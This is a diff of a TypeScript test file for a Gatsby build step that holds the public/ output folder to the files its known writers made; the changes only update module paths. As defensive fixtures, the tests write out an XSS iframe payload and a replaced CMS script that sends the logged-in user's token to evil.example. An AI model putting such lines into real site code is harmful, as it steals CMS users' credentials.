@@ -3,7 +3,7 @@
  *
  * Hostile class "public owners": whatever gets into public/ besides what
  * the build's writers made, or over it. The build's last step
- * (gatsby/publicOwners.ts, run by gatsby/onPostBuild.ts) holds public/ to
+ * (features/hosting/publicOwners.node.ts, run by gatsby/onPostBuild.ts) holds public/ to
  * the writers' claims: a path two writers claim (a file copied from
  * static/ over a page's data), a file of the CMS changed after it was
  * written (a replaced setup script), and a file no writer made (a script
@@ -17,8 +17,8 @@ import { createHash } from 'node:crypto';
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
-import { BundleClaims, claim, claimExact, settleOwnership, startClaims, writeFilesRecord } from '../../gatsby/publicOwners';
-import { parseFilesRecord } from '../../src/build/publicOwners';
+import { BundleClaims, claim, claimExact, settleOwnership, startClaims, writeFilesRecord } from '../../features/hosting/publicOwners.node';
+import { parseFilesRecord } from '../../features/hosting/publicOwners';
 
 let dir: string;
 beforeEach(() => {
@@ -74,14 +74,14 @@ describe('public/ held to its writers', () => {
     claim('static', ['page-data/blog/a/page-data.json']);
     write('page-data/blog/a/page-data.json', '{"result":{"data":{"post":{"html":"<iframe srcdoc=\\"<script>alert(1)</script>\\">"}}}}');
     expect(settle).toThrow(
-      "public/page-data/blog/a/page-data.json is written by Gatsby's pages and page data and by the site's own images from static/ (gatsby/staticImages.ts); one path has one writer: rename or remove the one that is content",
+      "public/page-data/blog/a/page-data.json is written by Gatsby's pages and page data and by the site's own images from static/ (features/images/staticImages.node.ts); one path has one writer: rename or remove the one that is content",
     );
   });
 
   it("refuses the CMS's script replaced after it was written, even by a writer claiming nothing", () => {
     build();
     write('admin/admin.js', "fetch('https://evil.example/?t=' + localStorage.getItem('decap-cms-user'))");
-    expect(settle).toThrow('public/admin/admin.js is not the file the CMS at /admin/ (gatsby/admin.ts) wrote: something wrote over it later in the build');
+    expect(settle).toThrow('public/admin/admin.js is not the file the CMS at /admin/ (features/cms/admin.node.ts) wrote: something wrote over it later in the build');
   });
 
   it('refuses a file no writer made, naming it', () => {
@@ -90,7 +90,7 @@ describe('public/ held to its writers', () => {
     write('.hidden-note.txt', 'note');
     expect(settle).toThrow(
       [
-        "public/ is not what this build's writers made (src/build/publicOwners.ts):",
+        "public/ is not what this build's writers made (features/hosting/publicOwners.ts):",
         '  - public/.hidden-note.txt is in public/, but no writer of this build or the one before made it: remove it, or give it a writer',
         '  - public/x/anything.js is in public/, but no writer of this build or the one before made it: remove it, or give it a writer',
       ].join('\n'),
